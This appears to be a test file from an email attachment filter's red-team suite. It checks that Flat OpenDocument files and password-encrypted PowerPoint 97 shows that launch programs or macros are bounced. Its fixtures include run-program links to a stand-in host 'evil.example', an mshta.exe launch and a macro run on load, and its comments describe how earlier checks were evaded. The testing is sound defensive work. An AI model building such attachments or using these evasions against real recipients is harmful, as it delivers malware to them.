import { zipFile } from '@wmflow/core/testing';
import { describe, expect, it } from 'vitest';
import { attachedFile, attackerKit } from './attacker-kit.js';
import {
  encryptedPpsWith,
  flatOdf,
  fodpWith,
  PPT_ACTION,
  ppsWith,
  presentationListener,
} from './slide-action-builders.js';
import { useLocalStack } from './stack.js';

// Attacker round 54. A54-1: the round-53 OpenDocument check read XML entries of an archive only, so a Flat
// OpenDocument file (.fodp, .fodt: one XML file, `office:document` root, which LibreOffice opens from the attachment
// whatever its name) with a "Run program" interaction or a macro listener run on load was delivered. A54-5: a
// PowerPoint 97 show encrypted with the built-in password (opened without a prompt) hid its slide records; it is now
// refused as encrypted content.
const stack = useLocalStack();
const kit = attackerKit(stack);
const SHARE_EXE = '\\\\evil.example\\s\\invoice.exe';
const ODT = 'application/vnd.oasis.opendocument.text';
const verdictOf = async (name: string, file: Buffer) =>
  (await kit.inbound(attachedFile(name, file)[0])).verdict;

const RUN_ON_LOAD =
  '<script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" xlink:type="simple"/>';
const fodt = (scripts = '') =>
  flatOdf(ODT, '<office:text><text:p>Invoice attached.</text:p></office:text>', scripts);

describe('A54-1: a Flat OpenDocument file whose shape or load runs a program or a macro', () => {
  const cases: [string, string, Buffer][] = [
    [
      'Invoice.fodp',
      'runs a share exe on click',
      fodpWith(presentationListener('execute', 'file://evil.example/s/invoice.exe')),
    ],
    [
      'Invoice.xml',
      'runs a local mshta on click',
      fodpWith(presentationListener('execute', 'file:///C:/Windows/System32/mshta.exe')),
    ],
    ['Invoice.fodp', 'activates an embedded object', fodpWith(presentationListener('verb', ''))],
    ['Invoice.fodt', 'runs a document macro on load', fodt(RUN_ON_LOAD)],
    ['Invoice.txt', 'runs a document macro on load (named as text)', fodt(RUN_ON_LOAD)],
  ];
  for (const [name, how, file] of cases)
    it(`bounces ${name} that ${how}`, async () => {
      expect(await verdictOf(name, file)).toBe('BOUNCE');
    });
  it('bounces the flat presentation inside a zip (held)', async () => {
    const zip = zipFile([
      {
        name: 'Invoice.fodp',
        data: fodpWith(presentationListener('execute', 'file://evil.example/s/x.exe')),
      },
    ]);
    expect(await verdictOf('Invoice.zip', zip)).toBe('BOUNCE');
  });
  it('(control) delivers a .fodp whose shapes go to the next page and open a web page', async () => {
    const listeners =
      presentationListener('next-page', '') + presentationListener('show', 'https://example.com/');
    expect(await verdictOf('Invoice.fodp', fodpWith(listeners))).toBe('DEFAULT');
  });
  it('(control) delivers an ordinary flat text document', async () => {
    expect(await verdictOf('Invoice.fodt', fodt())).toBe('DEFAULT');
  });
});

describe('A54-5: a PowerPoint 97 show encrypted with the built-in password', () => {
  const program = { action: PPT_ACTION.program, target: SHARE_EXE };
  const cases: Record<string, Buffer> = {
    'whose slide runs a program': encryptedPpsWith(program),
    'whose slide only jumps (its slides are unread either way)': encryptedPpsWith({
      action: PPT_ACTION.jump,
      target: SHARE_EXE,
    }),
    'without the encrypted headerToken or an EncryptedSummary stream': encryptedPpsWith({
      ...program,
      token: false,
      summary: false,
    }),
  };
  for (const [how, file] of Object.entries(cases))
    it(`bounces an encrypted Invoice.pps ${how}`, async () => {
      expect(await verdictOf('Invoice.pps', file)).toBe('BOUNCE');
    });
  it('(control) bounces the same show unencrypted', async () => {
    expect(await verdictOf('Invoice.pps', ppsWith(program))).toBe('BOUNCE');
  });
  it('(control) delivers an ordinary unencrypted show', async () => {
    const show = ppsWith({ action: PPT_ACTION.hyperlink, target: 'https://example.com/' });
    expect(await verdictOf('Invoice.pps', show)).toBe('DEFAULT');
  });
});
